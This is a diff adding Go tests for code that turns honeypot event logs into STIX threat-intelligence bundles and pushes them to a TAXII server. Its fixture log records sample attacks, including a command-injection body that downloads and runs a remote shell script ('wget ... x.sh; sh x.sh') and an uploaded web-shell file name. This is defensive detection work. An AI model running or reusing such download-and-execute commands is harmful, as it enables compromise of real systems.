@@ -0,0 +1,118 @@
+package stix
+
+import (
+	"context"
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+	"time"
+)
+
+const testEventLog = `{"eventTime":"2024-05-26T19:03:45Z","httpRequest":{"body":"","headers":"User-Agent: [curl/8.0]","method":"GET","protocolVersion":"HTTP/1.1","request":"/"},"msg":"successfulResponse","port":"8080","srcIP":"192.0.2.1"}
+{"eventTime":"2024-05-26T19:05:00Z","httpRequest":{"body":"cmd=wget http://198.51.100.7/x.sh; sh x.sh","bodySha256":"aa11","headers":"","method":"POST","request":"/cgi-bin/run"},"msg":"successfulResponse","port":"8080","srcIP":"192.0.2.1","tags":["rce"]}
+{"eventTime":"2024-05-26T19:06:00Z","artifacts":[{"field":"file","filename":"shell's.php","size":10,"sha256":"bb22"}],"httpRequest":{"body":"...","bodySha256":"cc33","headers":"","method":"POST","request":"/upload"},"msg":"successfulResponse","port":"8080","srcIP":"192.0.2.2","tags":["upload"]}
+{"eventTime":"2024-05-26T19:07:00Z","honeytokens":[{"id":"t1","kind":"aws_key"}],"httpRequest":{"body":"","headers":"","method":"GET","request":"/"},"msg":"successfulResponse","port":"8080","srcIP":"192.0.2.2","tags":["honeytoken"]}
+{"eventTime":"2024-05-26T19:08:00Z","honeytokens":[{"id":"t1","kind":"aws_key"}],"httpRequest":{"body":"","headers":"","method":"GET","request":"/"},"msg":"successfulResponse","port":"8080","srcIP":"192.0.2.2","tags":["honeytoken"]}
+{"eventTime":"2024-05-26T19:09:00Z","httpRequest":{"body":"","headers":"","method":"GET","request":"/"},"msg":"successfulResponse","port":"8080","srcIP":"10.0.0.1"}
+not a JSON line
+{"level":"info","msg":"starting HTTP server on port 8080"}
+`
+
+func TestFromEventLog(t *testing.T) {
+	now := time.Date(2024, 5, 27, 0, 0, 0, 0, time.UTC)
+	b, err := FromEventLog(strings.NewReader(testEventLog), Config{Identity: "sensor", Now: now})
+	if err != nil {
+		t.Fatalf("FromEventLog() error = %v", err)
+	}
+	if b.Type != "bundle" || !strings.HasPrefix(b.ID, "bundle--") {
+		t.Errorf("Unexpected bundle %s %s", b.Type, b.ID)
+	}
+	var patterns []string
+	var sightings []Object
+	for _, o := range b.Objects {
+		switch o.Type {
+		case "indicator":
+			patterns = append(patterns, o.Pattern)
+		case "sighting":
+			sightings = append(sightings, o)
+		}
+	}
+	want := []string{
+		"[ipv4-addr:value = '192.0.2.1']",
+		"[ipv4-addr:value = '192.0.2.2']",
+		"[url:value = 'http://198.51.100.7/x.sh']",
+		"[artifact:hashes.'SHA-256' = 'aa11']",
+		`[file:hashes.'SHA-256' = 'bb22' AND file:name = 'shell\'s.php']`,
+	}
+	if strings.Join(patterns, "\n") != strings.Join(want, "\n") {
+		t.Errorf("Expected the patterns\n%s\ngot\n%s", strings.Join(want, "\n"), strings.Join(patterns, "\n"))
+	}
+
+	identity := b.Objects[0]
+	if identity.Type != "identity" || identity.Name != "sensor" || !identity.Created.Equal(now) {
+		t.Errorf("Unexpected identity %+v", identity)
+	}
+	source := b.Objects[2]
+	if source.Confidence != honeytokenConfidence || source.ValidFrom == nil || !source.ValidFrom.Equal(time.Date(2024, 5, 26, 19, 6, 0, 0, time.UTC)) {
+		t.Errorf("Expected the source that used a honeytoken with a higher confidence, got %+v", source)
+	}
+	if len(sightings) != 1 || sightings[0].SightingOfRef != source.ID || sightings[0].Count != 2 || sightings[0].WhereSighted[0] != identity.ID {
+		t.Errorf("Expected a sighting of the honeytoken used twice, got %+v", sightings)
+	}
+
+	// The IDs are derived from the indicators.
+	again := FromEvents([]json.RawMessage{json.RawMessage(strings.Split(testEventLog, "\n")[1])}, Config{Identity: "sensor", Now: now})
+	if again.Objects[1].ID != b.Objects[1].ID {
+		t.Errorf("Expected the same ID for the same indicator, got %s and %s", again.Objects[1].ID, b.Objects[1].ID)
+	}
+}
+
+func TestFromEventLogFilters(t *testing.T) {
+	b, err := FromEventLog(strings.NewReader(testEventLog), Config{MinHits: 3, Since: time.Date(2024, 5, 26, 19, 4, 0, 0, time.UTC)})
+	if err != nil {
+		t.Fatalf("FromEventLog() error = %v", err)
+	}
+	for _, o := range b.Objects {
+		if o.Pattern == "[ipv4-addr:value = '192.0.2.1']" {
+			t.Errorf("Expected the source with too few requests skipped")
+		}
+	}
+	if b.Objects[0].Name != defaultIdentity || b.Objects[1].Pattern != "[ipv4-addr:value = '192.0.2.2']" {
+		t.Errorf("Expected the source that used a honeytoken kept, got %+v", b.Objects[1])
+	}
+}
+
+func TestPush(t *testing.T) {
+	var got struct {
+		Objects []Object `json:"objects"`
+	}
+	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if user, pass, ok := r.BasicAuth(); !ok || user != "user" || pass != "pass" {
+			http.Error(w, `{"title":"Unauthorized"}`, http.StatusUnauthorized)
+			return
+		}
+		if r.Method != http.MethodPost || r.URL.Path != "/api1/collections/c1/objects/" || r.Header.Get("Content-Type") != taxiiMediaType {
+			t.Errorf("Unexpected request %s %s %s", r.Method, r.URL.Path, r.Header.Get("Content-Type"))
+		}
+		json.NewDecoder(r.Body).Decode(&got)
+		w.Header().Set("Content-Type", taxiiMediaType)
+		w.WriteHeader(http.StatusAccepted)
+		w.Write([]byte(`{"id":"s1","status":"complete","total_count":1,"success_count":1}`))
+	}))
+	defer ts.Close()
+
+	b := FromEvents(nil, Config{})
+	status, err := Push(context.Background(), ts.Client(), TAXIIConfig{URL: ts.URL + "/api1/", Collection: "c1", Username: "user", Password: "pass"}, b)
+	if err != nil {
+		t.Fatalf("Push() error = %v", err)
+	}
+	if status.Status != "complete" || status.SuccessCount != 1 || len(got.Objects) != 1 || got.Objects[0].Type != "identity" {
+		t.Errorf("Unexpected status %+v and objects %+v", status, got.Objects)
+	}
+
+	if _, err := Push(context.Background(), ts.Client(), TAXIIConfig{URL: ts.URL, Collection: "c1", Token: "x"}, b); err == nil || !strings.Contains(err.Error(), "Unauthorized") {
+		t.Errorf("Expected the error of the server, got %v", err)
+	}
+}